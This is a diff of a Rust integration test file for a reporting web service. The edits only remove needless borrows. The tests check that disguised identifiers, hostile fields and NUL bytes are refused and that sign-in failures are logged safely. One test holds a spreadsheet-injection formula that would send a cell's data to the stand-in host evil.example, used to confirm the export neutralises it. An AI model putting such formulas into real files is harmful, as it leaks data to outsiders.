@@ -438,7 +438,7 @@ async fn disguised_identifiers_in_a_form_are_refused(
     // The form, by every disguise: refused, nothing stored.
     for (i, text) in disguises.iter().enumerate() {
         let r = app
-            .api(Method::POST, "/api/v1/reports", &employee)
+            .api(Method::POST, "/api/v1/reports", employee)
             .json(&report(
                 sod,
                 text,
@@ -459,7 +459,7 @@ async fn disguised_identifiers_in_a_form_are_refused(
 async fn a_clean_form(app: &TestApp, sod: i64, employee: &str) -> i64 {
     // A clean form to hang links and notes on.
     let r = app
-        .api(Method::POST, "/api/v1/reports", &employee)
+        .api(Method::POST, "/api/v1/reports", employee)
         .json(&report(
             sod,
             "Klotter med symboler vid skolan.",
@@ -484,7 +484,7 @@ async fn hostile_fields_are_refused(
     coordinator: &str,
 ) {
     let call = |method: Method, path: String, body: Value| {
-        app.api(method, &path, &coordinator).json(&body).send()
+        app.api(method, &path, coordinator).json(&body).send()
     };
     let refused = [
         call(
@@ -596,7 +596,7 @@ async fn identifying_sign_ins_fail(app: &TestApp) {
 }
 
 async fn no_table_holds_the_identifiers(app: &TestApp, backend: Backend) {
-    let values = all_text(&app, backend).await;
+    let values = all_text(app, backend).await;
     let pnr_digits = "8112289874";
     for (table, column, value) in &values {
         let (digits, letters) = folded(value);
@@ -618,7 +618,7 @@ async fn no_table_holds_the_identifiers(app: &TestApp, backend: Backend) {
 
 async fn failed_sign_ins_are_logged_without_the_address(app: &TestApp) {
     let unknown: i64 = count(
-        &app,
+        app,
         "SELECT COUNT(*) FROM audit_log WHERE action = 'sign_in_failed' AND actor = 'okänt konto'",
     )
     .await;
@@ -716,7 +716,7 @@ async fn one_guesser_behind_the_proxy_does_not_lock_out_the_others(app: &TestApp
 async fn nul_is_refused_in_json_naming_the_field(app: &TestApp, employee: &str, sod: i64) {
     // NUL: refused in JSON naming the field, dropped from forms, never a 500.
     let r = app
-        .api(Method::POST, "/api/v1/reports", &employee)
+        .api(Method::POST, "/api/v1/reports", employee)
         .json(&report(
             sod,
             "Klotter\u{0} vid skolan.",
@@ -786,7 +786,7 @@ async fn a_partners_formula_is_text_in_the_export(app: &TestApp, employee: &str,
     // CSV cells: a partner's formula comes out as text in the coordinator's export.
     let formula = r#"=hyperlink("http://evil.example/?d="&A2,"Klicka här")"#;
     let r = app
-        .api(Method::POST, "/api/v1/reports", &employee)
+        .api(Method::POST, "/api/v1/reports", employee)
         .json(&report(sod, formula, "formula-submission-key-0001"))
         .send()
         .await
